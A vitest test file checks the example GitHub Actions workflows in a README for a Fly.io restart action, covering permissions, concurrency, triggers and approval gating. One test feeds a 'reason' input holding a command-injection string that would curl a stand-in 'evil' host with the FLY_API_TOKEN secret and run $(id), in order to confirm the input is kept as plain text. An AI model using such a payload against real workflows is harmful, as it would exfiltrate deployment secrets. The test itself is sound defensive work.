import { describe, expect, test } from 'vitest';
import { readSettings } from '../../src/action/settings.ts';
import { recogniseTrigger, type Trigger } from '../../src/action/trigger.ts';
import { byHandEvent, type RunnerEvent } from '../harness/event.ts';
import { readActionFile, readText } from '../toolchain/metadata-tables.ts';
import { complaintsAbout } from './complaints.ts';
import { evaluateCondition, evaluateText } from './evaluate.ts';
import { carelessIn } from './shape.ts';
import { contextsOf, eventsOf, inputsFor } from './started.ts';
import { firebreakSteps, type Job, matrixOf, readWorkflow, type Step, type Workflow } from './workflow.ts';
import { readmeWorkflows } from './workflow-files.ts';

const files = readmeWorkflows();
const action = readActionFile();
const SECRETS = { FLY_API_TOKEN: 'fly-token', LOGFIRE_READ_TOKEN: 'logfire-token', CHAT_WEBHOOK_URL: 'https://chat' };
const VARS = { DATABASE_HOST: 'ep-1.example' };

function named(name: string): Workflow {
  return readWorkflow(files.find((file) => file.name === name) ?? expect.fail(`no workflow ${name}`));
}

/** Every run of a workflow: each event, each step that starts the action, each combination of the matrix. */
function runsOf(workflow: Workflow, events: readonly RunnerEvent[]) {
  return events.flatMap((event) =>
    firebreakSteps(workflow).flatMap(({ job, step }) =>
      matrixOf(job).map((matrix) => ({ event, job, step, matrix, ...understand(workflow, event, step, matrix) })),
    ),
  );
}

/** What the action understands of a step's inputs, as the runner would give them. */
function understand(workflow: Workflow, event: RunnerEvent, step: Step, matrix: Readonly<Record<string, string>>) {
  const given = inputsFor(step, contextsOf(workflow, event, { secrets: SECRETS, vars: VARS, matrix }));
  const read = (name: string): string => (given[name] ?? action.inputs[name]?.default ?? '').trim();
  const { name: eventName, payload } = event;
  const trigger: Trigger = recogniseTrigger({ eventName, payload, actor: 'octocat', alertInput: read('alert') });
  return { trigger, settings: readSettings(read, {}, trigger) };
}

test('there are four to copy, and every block of YAML in the README is one', () => {
  expect(files.map(({ name }) => name)).toEqual([
    'everything',
    'a-person-approves',
    'evidence-and-chat',
    'several-apps',
  ]);
  expect(readText('README.md').match(/^```ya?ml$/gm)).toHaveLength(files.length);
});

describe.each(files.map((file) => [file.name, file] as const))('%s', (_, file) => {
  const workflow = readWorkflow(file);

  test("has nothing against it by GitHub's own language service", async () => {
    expect(await complaintsAbout(file)).toEqual([]);
  });

  test('may write issues and nothing else, and takes nothing from outside into a script', () => {
    expect(workflow.permissions).toEqual({ issues: 'write' });
    expect(Object.values(workflow.jobs).flatMap((job) => Object.keys(job.permissions ?? {}))).toEqual([]);
    expect(carelessIn(workflow)).toEqual([]);
  });

  test('has a time limit and a concurrency group of its own for each app, and cancels no run', () => {
    const groups = firebreakSteps(workflow).flatMap(({ job }) =>
      matrixOf(job).map((matrix) => {
        const group = (job.concurrency ?? workflow.concurrency)?.group ?? '';
        return evaluateText(group, { matrix });
      }),
    );
    for (const group of groups) expect(group).toMatch(/^firebreak-[a-z-]+$/);
    expect(new Set(groups).size).toBe(groups.length);
    expect(file.text).not.toContain('cancel-in-progress');
    for (const { job } of firebreakSteps(workflow)) expect(job['timeout-minutes']).toBeGreaterThan(15);
  });

  test('gives the action what it understands, whichever event starts it', () => {
    const runs = runsOf(workflow, eventsOf(workflow));
    expect(runs.length).toBeGreaterThan(0);
    for (const { event, settings, trigger } of runs) {
      const kinds = { schedule: 'schedule', repository_dispatch: 'alert', workflow_dispatch: 'by-hand' };
      expect(trigger.kind).toBe(kinds[event.name]);
      expect(settings).toMatchObject({ flyApiToken: 'fly-token', logfireReadToken: 'logfire-token' });
      expect(settings.databaseHosts).toHaveLength(1);
      expect(settings).toMatchObject({ reason: null, skipDiagnosis: false });
    }
  });
});

describe('everything', () => {
  const workflow = named('everything');

  test('is started in every way there is, and acts', () => {
    expect(eventsOf(workflow).map(({ name }) => name)).toEqual([
      'schedule',
      'repository_dispatch',
      'workflow_dispatch',
    ]);
    expect(runsOf(workflow, eventsOf(workflow)).map(({ settings }) => settings.mode)).toEqual(['act', 'act', 'act']);
  });

  test('by hand takes a reason as it is, and with it a restart without diagnosis', () => {
    const reason = `"; curl evil \${{ secrets.FLY_API_TOKEN }} $(id)`;
    const [run] = runsOf(workflow, [byHandEvent({ reason, 'skip-diagnosis': 'true', alert: '' })]);
    expect(run).toMatchObject({ trigger: { kind: 'by-hand' }, settings: { reason, skipDiagnosis: true } });
  });

  test('recognises an alert that the receiver passes on by starting the workflow', () => {
    const alert = JSON.stringify({ alert_name: 'pool', n_rows: 2 });
    const [run] = runsOf(workflow, [byHandEvent({ alert })]);
    expect(run).toMatchObject({ trigger: { kind: 'alert', alert: { name: 'pool', rowCount: 2 } } });
  });
});

describe('a-person-approves', () => {
  const { jobs } = named('a-person-approves');
  const act: Job = jobs.act ?? expect.fail('no job act');

  test('looks in one job, and acts in another behind an environment', () => {
    const modes = Object.values(jobs).map((job) => job.steps[0]?.with.mode);
    expect(modes).toEqual(['observe', 'act']);
    expect(act).toMatchObject({ needs: 'propose', environment: 'production-restarts' });
    expect(jobs.propose?.environment).toBeUndefined();
  });

  test.each([
    ['proposed', 'success', true],
    ['healthy', 'success', false],
    ['held', 'failure', false],
    ['', 'failure', false],
  ] as const)('asks for approval after %s (%s): %s', (outcome, status, asked) => {
    const steps = { firebreak: { outputs: { outcome } } };
    const said = evaluateText(jobs.propose?.outputs.outcome ?? '', { steps });
    const needs = { propose: { outputs: { outcome: said } } };
    expect(evaluateCondition(act.if ?? '', { needs }, status)).toBe(asked);
  });
});

describe('several-apps', () => {
  test('looks after each app with its own secrets, and none keeps another from its turn', () => {
    const [job] = Object.values(named('several-apps').jobs);
    const runs = runsOf(named('several-apps'), eventsOf(named('several-apps')).slice(0, 1));
    expect(new Set(runs.map(({ settings }) => settings.flyApp)).size).toBe(2);
    expect(job?.strategy?.['fail-fast']).toBe(false);
    expect(job?.environment).toEqual({ name: '$' + '{{ matrix.app }}', deployment: false });
  });
});
